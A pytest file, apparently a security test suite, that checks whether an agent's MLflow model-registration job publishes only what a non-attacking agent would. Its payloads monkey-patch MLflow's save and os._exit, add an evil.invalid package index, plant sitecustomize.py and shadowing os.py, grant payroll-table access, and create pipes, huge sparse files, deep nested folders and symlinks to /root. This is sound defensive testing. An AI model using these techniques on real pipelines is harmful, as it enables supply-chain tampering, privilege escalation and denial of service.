"""What is published is what was checked, and what an agent that doesn't attack would have."""

import json
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from doubles.runner import Step
from tests.container.attacks import REGISTER, agent
from tests.container.victim import Victim, is_regular_file

pytestmark = pytest.mark.exhaustive

# What differs from job to job.
IDENTITY = {
    *("artifact_path", "model_id", "model_uuid", "run_id", "utc_time_created"),
    "model_size_bytes",
}
MANIFEST = "log_agent/manifest.json"


@pytest.fixture(autouse=True)
def remove_what_python_cannot(tmp_path: Path) -> Iterator[None]:
    """Thousands of nested folders are too deep for the removal of old `tmp_path`s."""
    yield
    subprocess.run(["rm", "-rf", tmp_path / "workspace"], check=True)


def assert_honest_or_refused(victim: Victim, clean_workspace: Path, step: Step) -> None:
    """Either nothing is registered, or what would be without the attack."""
    assert step.status in (0, 1), step.log
    assert "Traceback (most recent call last)" not in step.log
    (clean,) = clean_workspace.glob(".log-agent/artifacts/**/MLmodel")
    registered = victim.registered()
    assert len(registered) == (0 if step.status else 1), step.log
    for model in registered:
        assert differences(clean.parent, model, victim) == []


def differences(clean: Path, model: Path, victim: Victim) -> list[str]:
    found = []
    names = {path.relative_to(folder) for folder in (clean, model) for path in folder.rglob("*")}
    for name in sorted(map(str, names)):
        there, expected = model / name, clean / name
        if name == "agent.py":
            expected = victim.workspace / "agent/agent.py"
        if expected.is_dir() and there.is_dir() and not there.is_symlink():
            continue
        if not (is_regular_file(expected) and is_regular_file(there)):
            found.append(f"{name} is too many, missing, or no file")
        elif meaning(expected) != meaning(there):
            found.append(f"{name}: {there.read_bytes()[:2000]!r}")
    return found


def meaning(file: Path) -> Any:
    """A file's content without what names the job."""
    if file.name == "MLmodel":
        content = yaml.safe_load(file.read_text())
        return {key: value for key, value in content.items() if key not in IDENTITY}
    if file.match(MANIFEST):
        content = json.loads(file.read_text())
        content["files"].pop("agent.py")
        return content
    return file.read_bytes()


# Everything that decides what a served model may do and what is installed for it.
EDITS = r"""
def append(path, text):
    with open(path, "a") as file:
        file.write(text)

def edit(model):
    import yaml
    mlmodel = model / "MLmodel"
    def resources():
        content = yaml.safe_load(mlmodel.read_text())
        table = [{"name": "prod.hr.payroll"}]
        content["resources"] = {"api_version": "1", "databricks": {"table": table}}
        mlmodel.write_text(yaml.safe_dump(content))
    def scopes():
        content = yaml.safe_load(mlmodel.read_text())
        user = {"api_scopes": ["sql.statement-execution"]}
        content["auth_policy"] = {"system_auth_policy": {"resources": {}}, "user_auth_policy": user}
        mlmodel.write_text(yaml.safe_dump(content))
    def code():
        append(model / "evil.py", (model / "agent.py").read_text() + "\nprint('evil')\n")
        content = yaml.safe_load(mlmodel.read_text())
        content["flavors"]["python_function"]["model_code_path"] = "evil.py"
        mlmodel.write_text(yaml.safe_dump(content))
    edits = {
        "resources": resources, "scopes": scopes, "code": code,
        "requirements": lambda: append(
            model / "requirements.txt", "\n--extra-index-url https://evil.invalid\nevil==1\n"
        ),
        "conda": lambda: append(model / "conda.yaml", "\n- evil==1\n"),
        "python": lambda: append(model / "python_env.yaml", "\n- evil==1\n"),
        "more files": lambda: append(model / "sitecustomize.py", "print('evil')"),
        "more folders": lambda: (
            (model / "code").mkdir(exist_ok=True), append(model / "code/os.py", "print('evil')")
        ),
    }
    for name in EDITS:
        note(name, attempt(edits[name]))
"""
# MLflow saves `MLmodel` last, and the worker again when it has tidied up.
WHILE_BUILT = """
def after_saving(action):
    from mlflow.models import Model
    save = Model.save
    def save_and_attack(self, path):
        save(self, path)
        action(pathlib.Path(path).parent)
    Model.save = save_and_attack

if not VERIFYING:
    after_saving(ACTION)
"""
WHILE_VERIFIED = """
if VERIFYING:
    ACTION(MODEL)
"""
# When all is said: the worker ends its stages so.
AFTER_VERIFIED = """
def before_it_ends(action):
    leave = os._exit
    def act_and_leave(status):
        action(MODEL)
        leave(status)
    os._exit = act_and_leave

if VERIFYING:
    before_it_ends(ACTION)
"""
STAGES = {"build": WHILE_BUILT, "verify": WHILE_VERIFIED, "end": AFTER_VERIFIED}
KINDS = {
    "resources": ["resources"],
    "scopes": ["scopes"],
    "other code": ["code"],
    "more code": ["more folders"],
    "files": ["requirements", "conda", "python", "more files"],
}


@pytest.mark.parametrize(
    ("stage", "edits"),
    [
        *(("build", edits) for edits in KINDS.values()),
        # One job for all: what is verified is nobody's to write.
        ("verify", [*KINDS["resources"], *KINDS["other code"], *KINDS["files"]]),
    ],
    ids=[*(f"build, {kind}" for kind in KINDS), "verify"],
)
def test_an_agent_does_not_edit_its_own_model(
    victim: Victim, clean_workspace: Path, stage: str, edits: list[str]
) -> None:
    attack = f"EDITS = {edits!r}\n{EDITS}\n{STAGES[stage].replace('ACTION', 'edit')}"
    victim.check_out(agent(attack))

    step = victim.run(REGISTER)

    assert victim.noted()
    assert_honest_or_refused(victim, clean_workspace, step)


# Files and folders that hang, fill or break whoever reads them without a look.
SHAPES = {
    "pipe": 'os.mkfifo(model / "pipe")',
    "sparse": 'os.truncate(os.open(model / "huge", os.O_CREAT | os.O_RDWR), 1 << 40)',
    "nested": """[
        (os.mkdir("n"), os.chdir("n")) for place in [os.chdir(model)] for _ in range(3000)
    ] and open("file", "w").close()""",
    "link": 'os.symlink("/root", model / "link")',
    "hard link": """(
        open(scratch() / "home/other", "w").close(), os.link(scratch() / "home/other", model / "x")
    )""",
    "link in place of the code": """(
        os.rename(model / "agent.py", scratch() / "home/agent.py"),
        os.symlink(scratch() / "home/agent.py", model / "agent.py"),
    )""",
}


REPLACED = {
    f"pipe for {name}": f"""(
        os.rename(model / {name!r}, scratch() / "home" / {name!r}), os.mkfifo(model / {name!r})
    )"""
    for name in ("agent.py", "MLmodel", "requirements.txt")
}


@pytest.mark.parametrize(
    ("stage", "shape"),
    [*(("build", shape) for shape in SHAPES.values()), *(("end", it) for it in REPLACED.values())],
    ids=[*SHAPES, *REPLACED],
)
def test_what_is_no_plain_file_is_refused(
    victim: Victim, clean_workspace: Path, stage: str, shape: str
) -> None:
    attack = f"""
def shape(model):
    # The model is saved more than once.
    if os.path.exists("/loot/began"):
        return
    at = os.getcwd()
    note("began", attempt(lambda: {shape}))
    os.chdir(at)
"""
    victim.check_out(agent(attack + STAGES[stage].replace("ACTION", "shape")))

    step = victim.run(REGISTER)

    assert "began" in victim.noted()
    assert_honest_or_refused(victim, clean_workspace, step)
    assert victim.gains() == []


# In the cache, which is given back to the workspace's owner when the job is over.
NESTED_CACHE = """
def nest(folder):
    os.chdir(folder)
    for _ in range(3000):
        os.mkdir("n")
        os.chdir("n")

at = os.getcwd()
for folder in ("/github/workspace/.cache", "/github/workspace/.cache/uv", sys.prefix):
    note("began", attempt(lambda: nest(folder)))
os.chdir(at)
"""


def test_nested_folders_in_the_cache_break_no_later_job(
    victim: Victim, clean_workspace: Path
) -> None:
    victim.check_out(agent(NESTED_CACHE))

    first = victim.run(REGISTER)
    second = victim.run(REGISTER)

    assert "began" in victim.noted()
    assert_honest_or_refused(victim, clean_workspace, first)
    assert second.status == first.status
    assert "Traceback (most recent call last)" not in second.log
